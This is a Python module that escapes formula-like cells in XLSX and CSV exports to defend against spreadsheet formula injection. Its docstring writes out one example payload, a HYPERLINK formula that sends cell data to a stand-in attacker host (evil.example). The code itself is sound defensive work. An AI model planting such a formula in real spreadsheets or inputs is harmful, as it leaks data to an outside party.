"""Spreadsheets people download (XLSX, CSV): user text is written as text, never as a
formula. A cell starting with ``=``, ``+``, ``-``, ``@`` (or a tab / carriage return that
a spreadsheet strips first) would otherwise run when the regulator opens the file —
``=HYPERLINK("http://evil.example/?"&A2, "点击")`` leaking the sheet (CSV/formula injection).

Every export goes through ``xlsx_bytes`` or ``csv_bytes``; a test keeps it that way."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable
from typing import Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def is_formula_like(value: Any) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_START)


def csv_cell(value: Any) -> Any:
    """A CSV cell: text that a spreadsheet would read as a formula gets a leading ``'``
    (the OWASP escape; Excel and WPS show the text, not a formula)."""
    if is_formula_like(value):
        return "'" + value
    return value


def neutralise(wb) -> None:
    """Every string cell of ``wb`` that looks like a formula becomes a plain text cell
    with Excel's quote prefix: the text reads exactly as typed, it never evaluates, and
    editing the cell in Excel keeps it text."""
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f" or is_formula_like(cell.value):
                    text = str(cell.value)
                    cell.value = text
                    cell.data_type = "s"
                    cell.quotePrefix = True


def xlsx_bytes(wb) -> bytes:
    neutralise(wb)
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def csv_bytes(rows: Iterable[Iterable[Any]], *, bom: bool = True) -> bytes:
    out = io.StringIO()
    writer = csv.writer(out)
    for row in rows:
        writer.writerow([csv_cell(v) for v in row])
    return (("\ufeff" if bom else "") + out.getvalue()).encode("utf-8")


def table_xlsx(title: str, header: Iterable[str], rows: Iterable[Iterable[Any]]) -> bytes:
    """One sheet named ``title``: a bold header row, then ``rows`` (text stays text)."""
    from openpyxl import Workbook
    from openpyxl.styles import Font

    wb = Workbook()
    ws = wb.active
    ws.title = title[:31]
    ws.append(list(header))
    for cell in ws[1]:
        cell.font = Font(bold=True)
    for row in rows:
        ws.append(list(row))
    return xlsx_bytes(wb)
